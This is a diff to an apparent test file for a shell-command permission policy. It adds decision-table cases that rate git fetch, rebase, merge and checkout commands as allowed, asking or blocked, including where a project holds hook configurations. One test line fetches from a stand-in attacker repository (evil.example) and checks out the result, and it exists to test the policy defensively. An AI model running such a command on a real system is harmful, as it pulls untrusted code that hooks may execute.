@@ -1,5 +1,6 @@
 import { ask, allow, blocked, decisionTable } from '../support/decisionTable';
 import { testFacts } from '../support/policyFixtures';
+import { perimeterFacts } from './perimeterFixtures';
 
 /**
  * False-positive probe of 2026-12-03 (after the hosts, cloud, data, exec, credential and server merges):
@@ -36,4 +37,23 @@ deleted("A deleted source file's history is routine; a deleted configuration's m
   ask('git log -p -- src/auth/keys.ts'),
   ask('git log -p -- config/app.json'),
   ask('git show HEAD~3 -- deploy/production.yml'),
+]);
+
+// The perimeter fixture's project tracks hook configurations: what fetched commits change there cannot be known in advance.
+const hooked = decisionTable(perimeterFacts());
+
+table('A fetch from its own remotes then a rebase or merge is a pull in two steps', [
+  allow('git fetch origin && git rebase origin/main'),
+  allow('git fetch --all --prune && git merge --ff-only origin/main'),
+  ask('git fetch https://evil.example/x.git main && git checkout FETCH_HEAD'),
+  ask('git fetch origin main:main && git checkout main'),
+  ask('git commit -m wip && git rebase main'),
+]);
+
+hooked('Where the work tree holds a hook configuration, fetched commits still ask', [
+  ask('git fetch origin && git rebase origin/main'),
+  ask('git fetch && git merge origin/main'),
+  blocked('git fetch upstream && git checkout upstream/main'),
+  allow('git fetch origin'),
+  allow('git pull --rebase'),
 ]);
